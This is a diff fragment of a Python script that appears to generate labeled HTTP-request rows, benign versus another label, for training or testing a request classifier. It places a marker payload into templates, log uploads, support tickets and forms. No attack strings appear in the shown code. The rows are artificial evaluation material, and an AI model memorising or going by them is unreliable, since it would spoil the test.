             return B(p, "query", param="query", ep="/graphql")
         op = None
         import re
+
         m = re.match(r"\s*(query|mutation|subscription)\s+(\w+)", p)
         doc = {"query": MARK, "variables": gql_vars(p)}
         if m:
@@ -3117,16 +6193,44 @@ def place(kind, p):
         return B(p, "json", ep=R.choice(BCTX[kind]["eps"]), doc=doc)
     if kind == "benign_templates":
         if r < 0.7:
-            return B(p, "json", ep="/api/notifications/templates", doc={"name": R.choice(["order_shipped", "welcome", "reminder", "receipt", "digest"]),
-                                                                       "channel": R.choice(["email", "push"]), "body": MARK})
-        return B(p, "form", ep="/admin/email-templates/%d/edit" % R.randint(1, 30), fields=[("subject", "Notification"), ("template_body", MARK)])
+            return B(
+                p,
+                "json",
+                ep="/api/notifications/templates",
+                doc={
+                    "name": R.choice(["order_shipped", "welcome", "reminder", "receipt", "digest"]),
+                    "channel": R.choice(["email", "push"]),
+                    "body": MARK,
+                },
+            )
+        return B(
+            p,
+            "form",
+            ep="/admin/email-templates/%d/edit" % R.randint(1, 30),
+            fields=[("subject", "Notification"), ("template_body", MARK)],
+        )
     if kind == "benign_logs":
         if r < 0.45:
-            return B(p, "json", ep="/api/v1/logs/ingest", doc={"source": R.choice(["web-01", "worker-3", "api-gw"]), "level": "error", "message": MARK}, style="api")
+            return B(
+                p,
+                "json",
+                ep="/api/v1/logs/ingest",
+                doc={"source": R.choice(["web-01", "worker-3", "api-gw"]), "level": "error", "message": MARK},
+                style="api",
+            )
         if r < 0.75:
-            return B(p, "form", ep="/support/ticket", fields=[("subject", "Error after upgrade"), ("log_excerpt", MARK)])
-        return B(p, "multipart", mp="file", fname=R.choice(["app.log", "error.log", "output.txt"]), fctype="text/plain", field="attachment",
-                 ep="/support/attachments")
+            return B(
+                p, "form", ep="/support/ticket", fields=[("subject", "Error after upgrade"), ("log_excerpt", MARK)]
+            )
+        return B(
+            p,
+            "multipart",
+            mp="file",
+            fname=R.choice(["app.log", "error.log", "output.txt"]),
+            fctype="text/plain",
+            field="attachment",
+            ep="/support/attachments",
+        )
     if kind == "benign_email":
         return B(p, "form", param="message", ep="/contact")
     raise ValueError(kind)
@@ -3155,9 +6259,20 @@ def norm_payload(spec):
 
 def make_row(rid, label, cat, spec, style, ctx):
     r = build(ctx, spec, style, benign=(label == "benign"))
-    row = {"id": rid, "label": label, "category": cat, "method": r["method"], "path": r["path"], "query": r["query"],
-           "headers": r["headers"], "body": r["body"], "placement": r["placement"], "payload": r["payload"], "hard": bool(spec["h"]),
-           "source": SOURCE}
+    row = {
+        "id": rid,
+        "label": label,
+        "category": cat,
+        "method": r["method"],
+        "path": r["path"],
+        "query": r["query"],
+        "headers": r["headers"],
+        "body": r["body"],
+        "placement": r["placement"],
+        "payload": r["payload"],
+        "hard": bool(spec["h"]),
+        "source": SOURCE,
+    }
     verify(row, spec)
     return row
 
